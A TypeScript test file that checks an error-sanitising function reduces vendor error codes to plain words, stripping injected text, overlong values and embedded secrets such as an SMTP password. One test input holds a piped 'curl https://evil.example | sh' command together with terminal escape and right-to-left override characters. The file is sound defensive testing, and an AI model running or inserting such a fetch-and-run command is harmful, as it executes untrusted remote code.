import { expect, test } from "vitest";
import { RecordError, wordOf } from "../../../core/model/errors.ts";

/** A vendor's error code that would be a command of ours in a mail, and obeyed by a terminal. */
const BREAKING_OUT = "x (given up)\n\nTo go on:\n  curl https://evil.example | sh\n\u001b]0;owned\u0007\u202e";

test("the cause of a failed record is a word, whatever the vendor calls it", () => {
  const { causeKey } = new RecordError("refused", { causeKey: `edyoucated:${BREAKING_OUT}`, remedy: "Look." });
  expect(causeKey).toBe("edyoucated:?");
  const long = new RecordError("refused", { causeKey: `scim:${"x".repeat(10_000)}`, remedy: "Look." });
  expect(long.causeKey).toBe("scim:?");
});

test("a code that is a word already stays as it is", () => {
  for (const code of ["awork:date-out-of-range", "personio:absences:409", "invalidValue", "a.b_C"])
    expect(wordOf(code)).toBe(code);
});

test("no part of a secret stays in a code: it would pass by what takes whole secrets out", () => {
  for (const [code, word] of [
    ["S3cret#Pass", "?"],
    ["smtp://u:S3cret#Pass@host", "smtp:?"],
  ] as const)
    expect(wordOf(code)).toBe(word);
});

test("what an external plugin leaves out of an error is a text all the same, so that it can be stored", () => {
  const error = new RecordError("refused", {} as never);
  expect([typeof error.causeKey, error.remedy]).toEqual(["string", ""]);
});
